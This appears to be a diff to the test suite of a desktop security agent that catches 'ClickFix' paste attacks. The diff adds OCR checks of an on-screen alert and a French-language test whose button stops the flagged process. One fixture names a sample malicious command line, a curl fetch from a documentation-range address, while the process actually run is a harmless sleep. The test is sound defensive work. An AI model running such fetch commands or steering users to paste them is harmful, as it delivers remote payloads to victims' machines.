@@ -122,13 +122,15 @@ def agent_factory(desktop, monkeypatch):
     platform.reset()
 
 
-def screen_text() -> str:
+def screen_text(lang: str = "eng") -> str:
+    """What Tesseract reads on the whole screen, lower case, one space between words."""
     import mss
     import pytesseract
     from PIL import Image
     with mss.MSS() as m:
         s = m.grab(m.monitors[1])
-    return pytesseract.image_to_string(Image.frombytes("RGB", s.size, s.rgb), lang="eng")
+    text = pytesseract.image_to_string(Image.frombytes("RGB", s.size, s.rgb), lang=lang)
+    return " ".join(text.lower().split())
 
 
 @pytest.mark.parametrize("query", ["", "?method=exec"], ids=["writeText", "execCommand"])
@@ -146,7 +148,7 @@ def test_page_copying_a_command_is_stopped_and_alerted(agent_factory, page, quer
     folder = evidence.find(shown["incident"]).path
     assert (folder / "command.txt").read_text("utf-8") == ev["command"] and evidence.verify(folder) == []
     # the alert on screen names the paste attack
-    assert wait_for(lambda: "never paste" in " ".join(screen_text().lower().split()), 30)
+    assert wait_for(lambda: "never paste" in screen_text(), 30)
     assert a.state == "alert"
 
 
@@ -205,3 +207,41 @@ def test_terminal_then_the_command_run_in_it(agent_factory, page):
             term.kill()
             term.wait()
         server.shutdown()
+
+
+class Recorder:
+    """Stands for the helper notifier (another module): records what it is given."""
+
+    def __init__(self):
+        self.calls = []
+
+    def notify(self, kind, data, attachments=()):
+        self.calls.append((kind, data, list(attachments)))
+
+
+def test_command_run_alert_stops_it_in_french(desktop, tmp_path):
+    """on_risky_context("clickfix_paste"): the French alert says the command was run and
+    its "Arrêter la commande" button ends the real process; the helper is told."""
+    from agent.respond.responder import Responder
+    notifier = Recorder()
+    r = Responder(Settings(language="fr", speak=False), notifier)
+    victim = subprocess.Popen(["sleep", "300"])
+    try:
+        incident = r.on_risky_context("clickfix_paste", {"pid": victim.pid, "name": "curl",
+                                                         "cmdline": "curl -s http://192.0.2.1/x", "launcher": "xterm"})
+        assert incident is not None and evidence.verify(incident) == []
+        assert notifier.calls[0][0] == "risky_context" and notifier.calls[0][1]["kind"] == "clickfix_paste"
+        gui = r.processes[-1]
+        shown = gui.wait_for("shown", 30)
+        assert shown and list(shown["buttons"])[0] == "close_tool"
+        assert wait_for(lambda: "a été lancée" in screen_text("fra"), 30)
+        x, y, w, h = shown["buttons"]["close_tool"]
+        xdotool("mousemove", str(x + w // 2), str(y + h // 2), "click", "1")
+        assert wait_for(lambda: victim.poll() is not None, 20), "the command was stopped"
+        act = wait_event(lambda e: e["type"] == "alert_action" and e.get("action") == "close_tool")
+        assert act["ok"] is True
+    finally:
+        victim.kill()
+        victim.wait()
+        r.close_windows()
+
